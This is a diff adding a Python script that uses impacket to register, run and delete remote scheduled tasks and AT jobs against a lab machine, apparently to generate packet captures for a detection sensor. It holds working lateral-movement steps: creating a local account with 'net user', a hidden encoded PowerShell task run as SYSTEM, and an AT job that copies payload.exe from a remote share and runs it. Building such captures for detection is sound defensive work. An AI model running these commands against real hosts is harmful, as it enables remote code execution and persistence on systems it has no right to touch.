@@ -1,0 +1,239 @@
+#!/usr/bin/python3
+"""tsch_client: drives Debian impacket's own MS-TSCH client code against the lab.
+
+Each scenario is one capture of pcaps/gen/make-captures.sh. It prints one JSON
+object on stdout describing what it sent (the facts the capture must hold).
+Only the lab address given on the command line is ever contacted.
+"""
+
+import argparse
+import base64
+import json
+import sys
+
+from impacket import smb
+from impacket.smbconnection import SMBConnection
+from impacket.dcerpc.v5 import transport, tsch, atsvc, sasec, epm
+from impacket.dcerpc.v5.dtypes import NULL
+from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_LEVEL_CONNECT, RPC_C_AUTHN_LEVEL_NONE, DCERPC)
+
+ATEXEC = "/usr/share/doc/python3-impacket/examples/atexec.py"
+JOB_NONINTERACTIVE = 0x10  # MS-TSCH 2.3.4 AT_INFO Flags
+PS_SCRIPT = "Write-Output tschsensor-lab; whoami"
+PS_ENC = base64.b64encode(PS_SCRIPT.encode("utf-16le")).decode()
+
+
+def task_xml(command, arguments, user_id, logon_type=None):
+    esc = lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    logon = "\n      <LogonType>%s</LogonType>" % logon_type if logon_type else ""
+    return """<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.3" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Author>LAB\\alice</Author>
+    <URI>\\Microsoft\\Windows\\TschLab\\Updater</URI>
+  </RegistrationInfo>
+  <Triggers>
+    <TimeTrigger>
+      <StartBoundary>2026-01-01T00:00:00</StartBoundary>
+      <Enabled>true</Enabled>
+    </TimeTrigger>
+  </Triggers>
+  <Principals>
+    <Principal id="Author">
+      <UserId>%s</UserId>%s
+      <RunLevel>HighestAvailable</RunLevel>
+    </Principal>
+  </Principals>
+  <Settings>
+    <Enabled>true</Enabled>
+    <Hidden>true</Hidden>
+    <AllowStartOnDemand>true</AllowStartOnDemand>
+  </Settings>
+  <Actions Context="Author">
+    <Exec>
+      <Command>%s</Command>
+      <Arguments>%s</Arguments>
+    </Exec>
+  </Actions>
+</Task>
+""" % (esc(user_id), logon, esc(command), esc(arguments))
+
+
+def smb_dce(a, dialect=None, port=445, auth_level=RPC_C_AUTHN_LEVEL_CONNECT):
+    """An SMB session (chosen dialect/port) and a DCE-RPC handle on \\pipe\\atsvc."""
+    if port == 139:
+        conn = SMBConnection("*SMBSERVER", a.target, sess_port=139, preferredDialect=dialect, myName="TSCH-LAB-CLI")
+    else:
+        conn = SMBConnection(a.target, a.target, sess_port=port, preferredDialect=dialect, myName="TSCH-LAB-CLI")
+    conn.login(a.user, a.password, a.domain)
+    rt = transport.SMBTransport(a.target, port, r"\atsvc", smb_connection=conn)
+    dce = rt.get_dce_rpc()
+    if auth_level != RPC_C_AUTHN_LEVEL_NONE:
+        dce.set_credentials(a.user, a.password, a.domain)
+    dce.set_auth_level(auth_level)
+    dce.connect()
+    return conn, dce
+
+
+def register_sequence(dce, path, xml, logon_type, creds=()):
+    """Register, run, poll, delete, as an operator would."""
+    r = tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL, logon_type, creds)
+    actual = r["pActualPath"]
+    tsch.hSchRpcRun(dce, path)
+    tsch.hSchRpcGetLastRunInfo(dce, path)
+    tsch.hSchRpcDelete(dce, path)
+    return actual[:-1] if actual and actual.endswith("\x00") else actual
+
+
+def cred(user, password):
+    c = tsch.TASK_USER_CRED()
+    c["userId"] = user + "\x00"
+    c["password"] = password + "\x00"
+    c["flags"] = 0
+    return c
+
+
+def scen_tsch_np(a, dialect=None, port=445):
+    """ITaskSchedulerService over \\pipe\\atsvc, auth level CONNECT: stubs in the clear."""
+    path = "\\TschLabClear" if port == 445 else "\\TschLabNbss"
+    command = "cmd.exe"
+    arguments = "/c net user labsvc Lab-Pass-1 /add"
+    run_as = "LAB\\alice"
+    xml = task_xml(command, arguments, run_as, "Password")
+    conn, dce = smb_dce(a, dialect, port)
+    dce.bind(tsch.MSRPC_UUID_TSCHS)
+    actual = register_sequence(dce, path, xml, tsch.TASK_LOGON_PASSWORD, (cred(run_as, a.task_password),))
+    dce.disconnect()
+    conn.logoff()
+    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
+                smb_dialect="0x%04x" % conn.getDialect() if isinstance(conn.getDialect(), int) else conn.getDialect(),
+                smb_port=port, task_path=path, actual_path=actual, command=command, arguments=arguments,
+                run_as=run_as, run_as_password=a.task_password, logon_type=tsch.TASK_LOGON_PASSWORD,
+                register_flags=tsch.TASK_CREATE, task_xml=xml,
+                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])
+
+
+def scen_atexec_clear(a):
+    """Debian impacket's examples/atexec.py TSCH_EXEC, unchanged except the RPC auth level.
+
+    The example is loaded from its installed file; only the module-level name it
+    passes to set_auth_level is rebound to CONNECT, so the whole atexec flow
+    (register/run/poll/delete, then read ADMIN$\\Temp\\<name>.tmp) is on the
+    wire with cleartext stubs. random is seeded so the task name is fixed.
+    """
+    import importlib.util
+    import random
+    import io
+    import contextlib
+    spec = importlib.util.spec_from_file_location("atexec", ATEXEC)
+    mod = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(mod)
+    mod.RPC_C_AUTHN_LEVEL_PKT_PRIVACY = RPC_C_AUTHN_LEVEL_CONNECT
+    random.seed(0x75C4)
+    cmdline = "whoami /all"
+    buf = io.StringIO()
+    with contextlib.redirect_stdout(buf):
+        mod.TSCH_EXEC(a.user, a.password, a.domain, None, None, False, None, cmdline).play(a.target)
+    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
+                operator_command=cmdline, client_printed_output=buf.getvalue(),
+                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])
+
+
+def scen_tcp(a, ndr64=False):
+    """EPM ept_map on 135, then ITaskSchedulerService over ncacn_ip_tcp, auth level CONNECT."""
+    binding = epm.hept_map(a.target, tsch.MSRPC_UUID_TSCHS, protocol="ncacn_ip_tcp")
+    rt = transport.DCERPCTransportFactory(binding)
+    rt.set_credentials(a.user, a.password, a.domain)
+    dce = rt.get_dce_rpc()
+    dce.set_credentials(a.user, a.password, a.domain)
+    dce.set_auth_level(RPC_C_AUTHN_LEVEL_CONNECT)
+    dce.connect()
+    if ndr64:
+        dce.bind(tsch.MSRPC_UUID_TSCHS, transfer_syntax=("71710533-BEBA-4937-8319-B5DBEF9CCC36", "1.0"))
+        if dce.transfer_syntax != DCERPC.NDR64Syntax:
+            raise SystemExit("server did not accept NDR64")
+    else:
+        dce.bind(tsch.MSRPC_UUID_TSCHS)
+    path = "\\Microsoft\\Windows\\TschLab\\Updater" + ("64" if ndr64 else "")
+    command = "powershell.exe"
+    arguments = "-NoP -W Hidden -enc " + PS_ENC
+    run_as = "S-1-5-18"
+    xml = task_xml(command, arguments, run_as)
+    actual = register_sequence(dce, path, xml, tsch.TASK_LOGON_SERVICE_ACCOUNT)
+    dce.disconnect()
+    return dict(interface="ITaskSchedulerService", auth_level=2, transport=binding,
+                transfer_syntax="NDR64" if ndr64 else "NDR", epm_port=135, task_path=path, actual_path=actual,
+                command=command, arguments=arguments, encoded_script=PS_SCRIPT, run_as=run_as,
+                logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT, register_flags=tsch.TASK_CREATE, task_xml=xml,
+                op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])
+
+
+def scen_at_smb1(a):
+    """ATSVC NetrJobAdd over SMB1 \\pipe\\atsvc, no RPC authentication (level NONE)."""
+    conn, dce = smb_dce(a, smb.SMB_DIALECT, 445, RPC_C_AUTHN_LEVEL_NONE)
+    dce.bind(atsvc.MSRPC_UUID_ATSVC)
+    info = atsvc.AT_INFO()
+    command = "cmd.exe /c copy \\\\10.77.0.1\\share\\payload.exe C:\\Windows\\Temp\\payload.exe & C:\\Windows\\Temp\\payload.exe"
+    info["JobTime"] = (13 * 3600 + 37 * 60) * 1000  # 13:37 local, in ms after midnight
+    info["DaysOfMonth"] = 0
+    info["DaysOfWeek"] = 0
+    info["Flags"] = JOB_NONINTERACTIVE
+    info["Command"] = command + "\x00"
+    r = atsvc.hNetrJobAdd(dce, "\\\\10.77.0.2\x00", info)
+    job = r["pJobId"]
+    atsvc.hNetrJobDel(dce, "\\\\10.77.0.2\x00", job, job)
+    dce.disconnect()
+    dialect = conn.getDialect()
+    conn.logoff()
+    return dict(interface="ATSVC", auth_level=1, transport="ncacn_np:\\pipe\\atsvc",
+                smb_dialect="NT LM 0.12" if dialect == smb.SMB_DIALECT else str(dialect), server_name="\\\\10.77.0.2",
+                command=command, job_time_ms=info["JobTime"], job_flags=JOB_NONINTERACTIVE, job_id=job,
+                run_as="SYSTEM (AT jobs run as LocalSystem)", op_sequence=["NetrJobAdd", "NetrJobDel"])
+
+
+def scen_sasec(a):
+    """SASec SASetAccountInformation over SMB2 \\pipe\\atsvc, auth level CONNECT."""
+    conn, dce = smb_dce(a, None, 445)
+    dce.bind(sasec.MSRPC_UUID_SASEC)
+    job = "TschLabJob.job"
+    account = "LAB\\alice"
+    sasec.hSASetAccountInformation(dce, NULL, job, account, a.task_password, sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON)
+    dce.disconnect()
+    dialect = conn.getDialect()
+    conn.logoff()
+    return dict(interface="SASec", auth_level=2, transport="ncacn_np:\\pipe\\atsvc", smb_dialect="0x%04x" % dialect,
+                handle=None, job_name=job, run_as=account, run_as_password=a.task_password,
+                job_flags=sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON, op_sequence=["SASetAccountInformation"])
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__)
+    p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139"])
+    p.add_argument("--target", required=True)
+    p.add_argument("--user", default="alice")
+    p.add_argument("--domain", default="LAB")
+    p.add_argument("--password", required=True)
+    p.add_argument("--task-password", default="Run-As-Secret-7")
+    a = p.parse_args()
+    if a.scenario == "atexec-clear":
+        out = scen_atexec_clear(a)
+    elif a.scenario == "tsch-smb2-clear":
+        out = scen_tsch_np(a)
+    elif a.scenario == "nbss139":
+        out = scen_tsch_np(a, None, 139)
+    elif a.scenario == "tcp":
+        out = scen_tcp(a)
+    elif a.scenario == "tcp-ndr64":
+        out = scen_tcp(a, ndr64=True)
+    elif a.scenario == "at-smb1":
+        out = scen_at_smb1(a)
+    else:
+        out = scen_sasec(a)
+    out.update(user=a.user, domain=a.domain, client="pcaps/gen/tsch_client.py " + a.scenario,
+               library="Debian python3-impacket")
+    json.dump(out, sys.stdout, indent=2, sort_keys=True)
+    sys.stdout.write("\n")
+
+
+if __name__ == "__main__":
+    main()
